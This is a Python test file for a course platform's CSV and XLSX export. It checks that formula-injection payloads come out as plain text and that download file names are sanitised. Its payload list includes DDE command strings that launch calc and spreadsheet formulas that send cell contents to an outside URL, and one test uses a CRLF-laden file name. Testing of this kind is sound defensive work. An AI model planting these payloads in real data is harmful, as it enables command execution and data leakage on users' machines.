"""No cell of a file is a formula, whatever somebody is called."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from courses.spreadsheets import DANGEROUS, export, guard

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"open")',
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "\x00=1+1",
    "-2+3+cmd|' /C calc'!D2",
]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_payload_arrives_as_text(kind, payload):
    content = export(kind, "board", ["Learner"], [[payload]]).content

    if kind == "csv":
        [_header, [cell]] = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    else:
        made = load_workbook(io.BytesIO(content)).active["A2"]
        assert made.data_type == "s"
        cell = made.value
    assert cell.startswith("'")


@given(st.text())
def test_nothing_guarded_begins_dangerously(text):
    guarded = guard(text)

    assert guarded[:1] not in DANGEROUS
    assert guarded.lstrip()[:1] not in DANGEROUS


def test_plain_names_and_numbers_stay_as_they_are():
    assert guard("Ana Ruiz") == "Ana Ruiz"
    assert guard(-3) == -3
    assert guard(None) == ""


def test_the_name_of_the_file_is_safe():
    response = export("csv", 'Autumn "2026"; evening\r\nX: y', ["a"], [])

    assert response["Content-Disposition"] == 'attachment; filename="autumn-2026-evening-x-y.csv"'
